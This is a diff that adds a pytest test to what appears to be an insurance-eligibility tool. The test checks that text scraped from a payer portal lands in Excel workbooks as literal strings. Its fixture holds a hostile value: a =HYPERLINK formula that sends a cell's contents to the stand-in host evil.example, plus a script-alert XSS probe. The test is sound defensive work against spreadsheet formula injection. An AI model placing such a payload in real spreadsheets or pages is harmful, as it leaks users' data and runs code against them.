@@ -182,3 +182,21 @@ def test_an_open_workbook_gets_a_timestamped_copy_and_the_run_says_so(
     copies = sorted(p for p in path.parent.glob(f"{path.stem}-*.xlsx"))
     assert len(copies) == 1 and load_workbook(copies[0]).sheetnames[0] == "Follow-ups"
     assert path.read_bytes() == before, "the open workbook is not touched"
+
+
+def test_text_from_the_portal_lands_in_the_workbooks_as_literal_text(
+    env, settings, ground_truth, hub, tmp_path
+):
+    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"Acme PPO")<script>alert(1)</script>'
+    hub.knobs(hostile_text=hostile)
+    worklist = tmp_path / "appointments.csv"
+    write_appointments(worklist, ground_truth)
+    proc = payerbot("run", "eligibility", "--worklist", str(worklist), env=env)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    run_sheet = next((settings.data_dir / "spreadsheets").glob("eligibility-*.xlsx"))
+    for path in (settings.workbook_path, run_sheet):
+        ws = load_workbook(path)["Eligibility"]
+        plan_col = [c.value for c in ws[1]].index("Plan") + 1
+        cells = [ws.cell(r, plan_col) for r in range(2, ws.max_row + 1)]
+        shown = [c for c in cells if c.value]
+        assert shown and all(c.value == hostile and c.data_type == "s" for c in shown), path
